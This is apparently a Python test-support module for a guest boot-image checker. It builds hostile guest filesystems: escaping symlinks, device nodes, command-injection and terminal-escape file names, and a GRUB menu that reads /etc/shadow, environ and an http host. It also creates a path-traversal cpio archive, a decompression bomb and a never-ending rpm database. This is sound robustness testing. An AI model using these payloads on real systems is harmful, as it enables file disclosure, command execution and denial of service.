"""Trees of an owner who is an enemy: links that lead out, devices, names and contents that are made to be acted on."""

import os
import socket
import sqlite3
import struct
from typing import Any, Callable, Dict, List

from pvhready.demo import menus, parts
from pvhready.demo.image import bzimage
from pvhready.demo.initramfs import cpio, initramfs, link
from pvhready.demo.tree import File, Link, Tree
from support import trees
from support.trees import GRUB_CFG, RELEASE, UUID, GuestMaker

CANARY = "what nobody may read"
EVIL = "\x1b[31m\x1b]0;owned\x07\r\x08\u202e\u2028\udcff|;`touch /tmp/x`$(id)<script>alert(1)</script>\"'\\ --root=/"

# All that a check looks for by a fixed name.
PATHS = (
    "/boot", "/boot/grub", GRUB_CFG, "/boot/grub/grubenv", "/boot/vmlinuz-" + RELEASE, "/boot/config-" + RELEASE,
    "/boot/initrd.img-" + RELEASE, "/boot/System.map-" + RELEASE, "/boot/loader", "/boot/kernels", "/boot/xen", "/etc", "/etc/os-release",
    "/usr/lib/os-release", "/etc/fstab", "/etc/crypttab", "/etc/default", "/etc/default/grub", "/etc/default/grub.d", "/etc/kernel",
    "/etc/kernel/postinst.d", "/etc/initramfs", "/etc/systemd/system/boot.mount", "/etc/dnf/dnf.conf", "/etc/sysconfig/kernel", "/var",
    "/var/lib/dpkg", "/var/lib/dpkg/status", "/var/lib/dpkg/info", "/var/lib/rpm", "/var/lib/rpm/rpmdb.sqlite", "/usr",
    "/usr/lib/modules", "/lib", "/lib/modules", "/lib/modules/" + RELEASE, "/nix", "/nix/store", "/nix/var/nix/profiles", "/sbin/init",
    "/bin/sh", "/usr/local/sbin", "/etc/pvhready.conf", "/var/lib/pvhready/undo", "/var/cache/pvhready",
)


def _replaced(directory: str, path: str, make: Callable[[str], None]) -> None:
    """Let something else stand at a path of a guest; what is there goes beside it."""
    place = directory + path
    parent = os.path.dirname(place)
    while not os.path.isdir(parent):
        if os.path.lexists(parent):
            return  # below what is no folder here
        os.makedirs(parent)
    if os.path.lexists(place):
        os.rename(place, place + ".before")
    make(place)


def _links(guest: GuestMaker, target: str) -> List[str]:
    """Guests in each of which one path is a link to ``target``."""
    made = []
    for path in PATHS:
        directory = guest()
        depth = path.count("/") + directory.count("/") + 3
        _replaced(directory, path,
            lambda place: os.symlink(target.format(up="../" * depth, name=os.path.basename(path)), place))  # noqa: B023
        made.append(directory)
    return made


def _special(path: str) -> None:
    os.mkfifo(path)


def _device(path: str) -> None:
    try:
        os.mknod(path, 0o600 | 0o060000, os.makedev(7, 0))  # a block device: to read it would be to read this machine's
    except OSError:
        os.mkfifo(path)


def bind_socket(path: str) -> None:
    """Make a socket at a path, however long that is."""
    here = os.getcwd()
    os.chdir(os.path.dirname(path))
    try:
        with socket.socket(socket.AF_UNIX) as endpoint:
            endpoint.bind(os.path.basename(path))
    finally:
        os.chdir(here)


def _sparse(path: str) -> None:
    with open(path, "wb") as handle:
        handle.write(b"a b c\n")
        handle.truncate(5 << 30)


def _swapped(guest: GuestMaker, make: Callable[[str], None]) -> List[str]:
    made = []
    for path in PATHS:
        directory = guest()
        _replaced(directory, path, make)
        made.append(directory)
    return made


def words(guest: GuestMaker) -> str:
    """Return a guest whose names, titles, arguments and texts are made to be acted on."""
    menu = menus.debian_menu([RELEASE], UUID, "console=hvc0 nopv")
    title = EVIL.replace("'", "").replace("\\", "")
    menu = menu.replace("menuentry 'Debian GNU/Linux'", "menuentry '{}'".format(title), 1).replace("nopv", "nopv \\\x1b[2Jx=\\\x07", 1)
    tree: Tree = {
        GRUB_CFG: menu,
        "/boot/vmlinuz-6.0.0-\x1b[31m": bzimage("6.0.0-\x1b[31m"),
        "/boot/vmlinuz--rf": bzimage(RELEASE), "/boot/vmlinuz-\n6.2": bzimage("6.2.0\n|x=1;2"), "/boot/vmlinuz---help": bzimage("-rf"),
        "/boot/vmlinuz-$(id)": bzimage("$(id)"),
        "/etc/os-release": 'ID="{0}"\nNAME="{0}"\nVERSION_ID="{0}"\n'.format(EVIL.replace('"', "").replace("\n", "")),
        "/etc/kernel/postinst.d/\x1b[5m": File("#!/bin/sh\nlz4 -d \"$2\" /boot/x\n", 0o755),
        "/etc/kernel/postinst.d/--help": File("#!/bin/sh\ntouch {}/ran; lz4 -d /boot/vmlinuz-$1\n".format("/tmp"), 0o755),
        "/usr/lib/modules/--version/vmlinuz": bzimage("--version"),
        "/etc/default/grub": "GRUB_CMDLINE_LINUX=\"{}\"\n".format("$(touch /tmp/ran)\x1b[31m"),
        "/etc/fstab": parts.fstab(UUID) + "/dev/sda1 /mnt/\x1b[31m ext4 defaults 0 0\n",
    }
    return guest(tree)


def database(path: str) -> None:
    """Write an rpm database that wants to write, to read other files, and to run for ever."""
    connection = sqlite3.connect(path)
    connection.execute("PRAGMA journal_mode=WAL")
    connection.execute("CREATE TABLE Packages (hnum INTEGER PRIMARY KEY, blob BLOB NOT NULL)")
    connection.execute(
        "CREATE VIEW Basenames AS "
        "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT 'vmlinuz' AS key, x AS hnum, 0 AS idx FROM n")
    connection.commit()
    connection.close()


def _of_rpm(guest: GuestMaker) -> str:
    directory = guest({"/var/lib/dpkg/status": None, "/etc/os-release": "ID=fedora\nVERSION_ID=39\n"})
    os.makedirs(directory + "/var/lib/rpm")
    database(directory + "/var/lib/rpm/rpmdb.sqlite")
    for name in ("-wal", "-journal"):
        os.symlink("../../../../../../../../../../tmp/canary" + name, directory + "/var/lib/rpm/rpmdb.sqlite" + name)
    return directory


def _grub(guest: GuestMaker, outside: str) -> str:
    """A menu that asks for all that GRUB can read."""
    climb = "../" * (outside.count("/") + 6)
    menu = "".join("{}\n".format(line) for line in (
        "source /{}{}/secret".format(climb, outside.lstrip("/")), "configfile (xen/xvda)/{}{}/secret".format(climb, outside.lstrip("/")),
        "load_env -f {}/secret".format(outside), "source (hd0)/etc/passwd", "source (memdisk)/etc/shadow", "source (proc)/self/environ",
        "search --file --set=root {}/secret".format(outside), "for f in /*/*/*; do source $f; done", "source /proc/self/environ",
        "insmod http",
        "source (http,10.0.0.1)/x", "menuentry x {{ linux {}/secret ; initrd /../../..{}/secret ; }}".format(outside, outside)))
    return guest({GRUB_CFG: menu + menus.debian_menu([RELEASE], UUID, "console=hvc0")})


def _archives(guest: GuestMaker) -> List[str]:
    """initramfs whose members' names lead out, and those that a program of this machine has to unpack."""
    members: Dict[str, Any] = {"../../../etc/shadow": b"x", "/etc/passwd": b"x", "lib": link("/"), "init": link("../../../../bin/sh"),
        "dev/sda": b""}
    made = [guest({"/boot/initrd.img-" + RELEASE: cpio(members)})]
    for form in ("zstd", "lz4", "lzo", "xz"):
        made.append(guest({"/boot/initrd.img-" + RELEASE: initramfs(RELEASE, trees.MODULES, form)}))
    made.append(guest({"/boot/initrd.img-" + RELEASE: b"\x28\xb5\x2f\xfd" + struct.pack("<I", 0xFFFFFFFF) * 500}))
    return made


def all_of(guest: GuestMaker, outside: str) -> List[str]:
    """Return every hostile tree. ``outside`` is a folder that no tree holds, with a file ``secret`` in it."""
    made = _links(guest, "{up}" + outside.lstrip("/") + "/secret")
    made += _links(guest, "{up}" + outside.lstrip("/"))
    made += _links(guest, outside)
    made += _links(guest, "{name}")
    made += _links(guest, "/proc/self/root" + outside)
    for make in (_special, _device, bind_socket, _sparse):
        made += _swapped(guest, make)
    made += [words(guest), _of_rpm(guest), _grub(guest, outside)] + _archives(guest)
    made.append(guest({"/boot/vmlinuz-" + RELEASE: Link("/dev/stdin"), GRUB_CFG: Link("/dev/tty")}))
    return made
